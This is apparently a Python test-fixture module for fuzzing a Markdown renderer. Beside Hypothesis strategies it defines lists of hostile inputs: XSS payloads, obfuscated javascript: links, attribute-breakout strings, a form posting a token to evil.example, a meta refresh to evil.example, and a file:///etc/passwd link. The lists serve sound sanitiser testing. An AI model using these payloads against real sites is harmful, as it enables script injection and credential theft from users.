"""Markdown for tests: arbitrary, and such that tries to put more than text on the page."""

from __future__ import annotations

from itertools import pairwise

from hypothesis import strategies as st

# Pieces whose meaning depends on the next character or line.
PIECES = (
    *("a", "b c", " ", "\n", "\n\n", "\t", "    ", "  ", "\r\n", "\r", "\\", "\0"),
    *("- ", "* ", "+ ", "1. ", "2) ", "- [ ] ", "- [x] ", "-", "=", "---", "===", "***", "**", "_"),
    *("# ", "####### ", "> ", ">", "```", "```py\n", "~~~", "`", "~~", "|", "| a | b |\n"),
    *(
        "|---|--:|\n",
        "|-",
        ":-:",
        "[x](http://e.org)",
        "![a](http://e.org/x)",
        "[a]",
        "[a]: http://x\n",
    ),
    *("<b>", "</b>", "<!-- ", "<script>", "&amp;", "https://e.org/x", "<https://e.org>", "(", ")"),
    *("\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u00a0", "\ud83d", "\U0001f600", "ü"),
)


TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=40).map("".join)


@st.composite
def chunked(draw: st.DrawFn) -> list[str]:
    text = draw(TEXTS)
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=20).map(sorted))
    return [text[begin:end] for begin, end in pairwise([0, *cuts, len(text)])]


HOSTILE_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=token></form>",
    "<button onclick=alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://e.org' onmouseover='alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p id=box>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x onclick=alert(1)>x</x>",
    "</p></div></body><script>alert(1)</script>",
    "<b>bold</b>",
    "<a\thref='javascript:alert(1)'>x</a>",
    "<\x00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "**<script>**alert(1)</script>",
    "- [x] <script>alert(1)</script>",
)


HOSTILE_LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://e.org/%0aalert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:null/1)",
    "[x](ws://e.org)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/api/interrupt)",
    "[x](?token=1)",
    "[x](#box)",
    "[x](api/messages)",
    "[x](https:evil.example)",
    "[x](http:///evil.example)",
    "[x](http://)",
    "[x](mailto:)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "![x](/api/attachments/m1/0)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript:alert(1)",
    "[x](\ud800javascript:alert(1))",
)


HOSTILE_ATTRIBUTES = (
    '[x](https://e.org/"onmouseover="alert(1))',
    "[x](https://e.org/'onmouseover='alert(1))",
    '[x](https://e.org "\\"onmouseover=alert(1) x=\\"")',
    "[x](https://e.org '\"><script>alert(1)</script>')",
    '[x](<https://e.org/"><script>alert(1)</script>>)',
    '![x" onerror="alert(1)](https://e.org/a.png)',
    '![x](https://e.org/a.png "\\" onerror=\\"alert(1)")',
    '<https://e.org/"onmouseover="alert(1)>',
    'https://e.org/"onmouseover="alert(1)',
    "https://e.org/<script>alert(1)</script>",
    "[a](https://e.org/1 [b](https://e.org/2))",
    "[a <https://e.org/1> b](https://e.org/2)",
    "[https://e.org/1](https://e.org/2)",
    "[![a](https://e.org/1.png)](https://e.org/2)",
    "![![a](https://e.org/1.png)](https://e.org/2.png)",
    '| [x](https://e.org) |\n|:-:"onclick=alert(1)|\n| y |',
    "1234567890. x",
    "999999999. x",
)
